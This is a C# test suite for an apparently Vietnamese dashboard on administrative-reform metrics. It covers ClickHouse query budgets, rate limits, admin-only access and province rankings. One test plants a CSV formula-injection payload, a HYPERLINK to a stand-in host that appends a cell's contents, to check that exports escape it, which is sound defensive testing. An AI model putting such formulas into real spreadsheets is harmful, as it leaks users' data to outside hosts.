using System.Net;
using System.Text.Json;
using Dapper;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.TestHost;

namespace ReformMetrics.Dashboard.Tests;

/// <summary>What one caller may cost: every query a request causes runs under a budget ClickHouse enforces, calls are
/// rate-limited per user (sign-ins per address, exports more strictly), and the raw-event path is an administrator's.</summary>
public sealed class LimitsTests(LimitsServer server) : IClassFixture<LimitsServer>
{
    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("Dashboard:QueryTimeoutSeconds", "0.001", "time", HttpStatusCode.ServiceUnavailable, "thời gian")]
    [InlineData("Dashboard:QueryMemoryBytes", "1000", "memory", HttpStatusCode.ServiceUnavailable, "bộ nhớ")]
    [InlineData("Dashboard:QueryResultRows", "1", "rows", HttpStatusCode.UnprocessableEntity, "số dòng")]
    public async Task An_API_call_over_the_query_budget_is_cut_by_ClickHouse_and_answered_in_Vietnamese(
        string setting, string value, string limit, HttpStatusCode status, string named)
    {
        var app = await server.StartAsync(new Dictionary<string, string?> { [setting] = value });
        using var client = server.As(app, "quocgia");

        using var response = await client.GetAsync(new Uri("/api/kpi?period=2025&by=province,sector&compare=true", UriKind.Relative), Cancel);

        var body = await response.Content.ReadAsStringAsync(Cancel);
        Assert.True(status == response.StatusCode, $"{(int)response.StatusCode} {body}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        using var problem = JsonDocument.Parse(body);
        // The kind of ClickHouse error reached the mapping: a client timeout or a store that is down has no "limit".
        Assert.Equal(limit, problem.RootElement.GetProperty("limit").GetString());
        Assert.Contains(named, problem.RootElement.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal(status == HttpStatusCode.ServiceUnavailable, response.Headers.RetryAfter is not null);
    }

    [Fact]
    public async Task A_page_over_the_budget_is_a_Vietnamese_page_with_the_same_status()
    {
        var app = await server.StartAsync(new Dictionary<string, string?> { ["Dashboard:QueryMemoryBytes"] = "1000" });
        using var client = server.As(app, "quocgia");

        using var response = await client.GetAsync(new Uri("/qua-han?period=2025-04", UriKind.Relative), Cancel);

        Assert.Equal(HttpStatusCode.ServiceUnavailable, response.StatusCode);
        Assert.Contains("Truy vấn vượt giới hạn bộ nhớ", await response.Content.ReadAsStringAsync(Cancel), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_default_budget_leaves_ordinary_calls_alone_and_background_work_has_none()
    {
        using var client = server.As(server.Default, "quocgia");

        using var response = await client.GetAsync(new Uri("/api/kpi?period=2025&by=province,sector&compare=true", UriKind.Relative), Cancel);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        await using var connection = server.Store.CreateConnection();
        Assert.Equal("0", await connection.ExecuteScalarAsync<string>(new CommandDefinition("SELECT toString(getSetting('max_memory_usage'))", cancellationToken: Cancel)));
    }

    [Theory]
    [InlineData("Dashboard:QueryTimeoutSeconds", "1800", "phải nhỏ hơn ClickHouse:QueryTimeoutSeconds")]
    [InlineData("Dashboard:QueryMemoryBytes", "0", "không chấp nhận 0")]
    [InlineData("Dashboard:RequestsPerMinute", "0", "Dashboard:RequestsPerMinute phải từ 1")]
    public async Task A_budget_ClickHouse_could_not_enforce_before_the_client_gives_up_or_no_limit_at_all_stops_the_start(string setting, string value, string message)
    {
        var failure = await Assert.ThrowsAsync<Microsoft.Extensions.Options.OptionsValidationException>(() =>
            server.StartAsync(new Dictionary<string, string?> { [setting] = value }));

        Assert.Contains(message, failure.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task One_call_more_than_a_user_may_make_is_a_429_with_Retry_After_and_other_users_go_on()
    {
        var app = await server.StartAsync(new Dictionary<string, string?> { ["Dashboard:RequestsPerMinute"] = "3" });
        using var client = server.As(app, "quocgia");
        using var other = server.As(app, "phantich");

        var statuses = new List<HttpStatusCode>();
        HttpResponseMessage? last = null;
        for (var i = 0; i < 4; i++)
        {
            last?.Dispose();
            last = await client.GetAsync(new Uri("/api/metrics", UriKind.Relative), Cancel);
            statuses.Add(last.StatusCode);
        }

        using var theirs = await other.GetAsync(new Uri("/api/metrics", UriKind.Relative), Cancel);

        Assert.Equal([HttpStatusCode.OK, HttpStatusCode.OK, HttpStatusCode.OK, HttpStatusCode.TooManyRequests], statuses);
        // A token comes back every 20 seconds at 3 a minute.
        Assert.InRange(last!.Headers.RetryAfter?.Delta?.TotalSeconds ?? 0, 1, 20);
        Assert.Equal("application/problem+json", last.Content.Headers.ContentType?.MediaType);
        Assert.Contains("Vui lòng thử lại sau", await last.Content.ReadAsStringAsync(Cancel), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.OK, theirs.StatusCode);
        last.Dispose();
    }

    [Fact]
    public async Task Sign_in_attempts_are_limited_per_address_more_strictly()
    {
        var app = await server.StartAsync(new Dictionary<string, string?> { ["Dashboard:LoginsPerMinute"] = "2" });
        using var client = app.GetTestClient();
        var (cookies, token) = await Forms.OpenAsync(client, "/dang-nhap");

        var statuses = new List<HttpStatusCode>();
        for (var i = 0; i < 3; i++)
        {
            using var attempt = await Forms.PostAsync(client, "/dang-nhap", cookies, token, new() { ["name"] = "quocgia", ["password"] = "sai-" + i, ["returnUrl"] = "/" });
            statuses.Add(attempt.StatusCode);
            if (attempt.StatusCode == HttpStatusCode.TooManyRequests)
            {
                Assert.NotNull(attempt.Headers.RetryAfter);
                Assert.Contains("đăng nhập quá nhiều lần", await attempt.Content.ReadAsStringAsync(Cancel), StringComparison.Ordinal);
            }
        }

        Assert.Equal([HttpStatusCode.Unauthorized, HttpStatusCode.Unauthorized, HttpStatusCode.TooManyRequests], statuses);
        using var page = await client.GetAsync(new Uri("/dang-nhap", UriKind.Relative), Cancel);
        Assert.Equal(HttpStatusCode.OK, page.StatusCode); // the page itself is not a sign-in attempt
    }

    [Fact]
    public async Task Exports_are_limited_per_user_more_strictly_than_pages()
    {
        var app = await server.StartAsync(new Dictionary<string, string?> { ["Dashboard:ExportsPerMinute"] = "1" });
        using var client = server.As(app, "quocgia");
        const string query = "?loai=trong-ky&period=2025-04&geo=2008&province=72";

        using var first = await client.GetAsync(new Uri("/qua-han/csv" + query, UriKind.Relative), Cancel);
        using var second = await client.GetAsync(new Uri("/qua-han/csv" + query, UriKind.Relative), Cancel);
        using var page = await client.GetAsync(new Uri("/qua-han" + query, UriKind.Relative), Cancel);

        Assert.Equal((HttpStatusCode.OK, HttpStatusCode.TooManyRequests, HttpStatusCode.OK), (first.StatusCode, second.StatusCode, page.StatusCode));
        Assert.NotNull(second.Headers.RetryAfter);
        Assert.Contains("xuất dữ liệu quá nhiều lần", await second.Content.ReadAsStringAsync(Cancel), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("quocgia", HttpStatusCode.Forbidden)]
    [InlineData("tayninh", HttpStatusCode.Forbidden)]
    [InlineData("baocao", HttpStatusCode.Forbidden)]
    [InlineData("phantich", HttpStatusCode.Forbidden)]
    [InlineData("quantri", HttpStatusCode.OK)]
    public async Task Figures_from_the_raw_events_are_for_administrators_only(string user, HttpStatusCode expected)
    {
        using var client = server.As(server.Default, user);

        foreach (var path in new[] { "/api/kpi?period=2025-04&source=live", "/api/rankings?period=2025-04&source=live", "/api/index766?period=2025-04&source=live" })
        {
            using var response = await client.GetAsync(new Uri(path, UriKind.Relative), Cancel);

            var body = await response.Content.ReadAsStringAsync(Cancel);
            Assert.True(expected == response.StatusCode, $"{user} {path}: {(int)response.StatusCode} {body}");
            if (expected == HttpStatusCode.Forbidden)
            {
                Assert.StartsWith("source: chỉ quản trị viên", JsonDocument.Parse(body).RootElement.GetProperty("detail").GetString(), StringComparison.Ordinal);
            }
        }
    }

    [Theory]
    [InlineData("2025", "")]
    [InlineData("2008", "&geo=2008")]
    public async Task A_province_viewer_sees_the_national_766_rank_of_their_province(string geo, string query)
    {
        var national = await UnitsAsync("quocgia", "/api/index766?period=2025-04" + query);
        var own = await UnitsAsync("tayninh", "/api/index766?period=2025-04" + query);

        // Hà Nội's one dossier scores higher than Tây Ninh: a rank among its own units would be 1.
        Assert.Equal(1, national["01"]);
        Assert.All(own, u => Assert.Equal(national[u.Key], u.Value));
        Assert.Contains(geo == "2025" ? "80" : "72", own.Keys);
        Assert.DoesNotContain("01", own.Keys);
        Assert.All(own.Values, rank => Assert.True(rank > 1));
    }

    [Fact]
    public async Task A_province_asked_for_alone_keeps_its_national_rank_in_the_rankings()
    {
        using var client = server.As(server.Default, "quocgia");
        var all = await RanksAsync(client, "/api/rankings?period=2025-04&metric=on_time_rate");
        var alone = await RanksAsync(client, "/api/rankings?period=2025-04&metric=on_time_rate&province=80");
        using var ownClient = server.As(server.Default, "tayninh");
        var own = await RanksAsync(ownClient, "/api/rankings?period=2025-04&metric=on_time_rate");

        Assert.Equal(2, all["80"]);
        Assert.Equal(new Dictionary<string, int> { ["80"] = 2 }, alone);
        Assert.Equal(alone, own);
    }

    [Fact]
    public async Task An_agency_named_as_a_formula_leaves_the_overdue_CSV_as_text()
    {
        const string formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")";
        await using (var connection = server.Store.CreateConnection())
        {
            await connection.ExecuteAsync(new CommandDefinition(
                "INSERT INTO agencies (code, name_vi, province_code, level, valid_from, valid_to) VALUES ('AG-TEST', @formula, '72', 'commune', '2015-01-01', '2030-12-31')",
                new { formula }, cancellationToken: Cancel));
        }

        using var client = server.As(server.Default, "tayninh");
        var csv = await client.GetStringAsync(new Uri("/qua-han/csv?loai=trong-ky&period=2025-04&geo=2008&province=72", UriKind.Relative), Cancel);

        var first = csv.TrimStart('\uFEFF').Split("\r\n")[1];
        Assert.StartsWith("\"N\",\"Tây Ninh\",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm\"\")\",", first, StringComparison.Ordinal);
    }

    private async Task<Dictionary<string, int>> UnitsAsync(string user, string path)
    {
        using var client = server.As(server.Default, user);
        var body = await client.GetStringAsync(new Uri(path, UriKind.Relative), Cancel);
        return JsonDocument.Parse(body).RootElement.GetProperty("units").EnumerateArray()
            .ToDictionary(u => u.GetProperty("keys").GetProperty("province").GetString()!, u => u.GetProperty("rank").GetInt32());
    }

    private static async Task<Dictionary<string, int>> RanksAsync(HttpClient client, string path)
    {
        var body = await client.GetStringAsync(new Uri(path, UriKind.Relative), Cancel);
        return JsonDocument.Parse(body).RootElement.GetProperty("units").EnumerateArray()
            .ToDictionary(u => u.GetProperty("code").GetString()!, u => u.GetProperty("rank").GetInt32());
    }
}
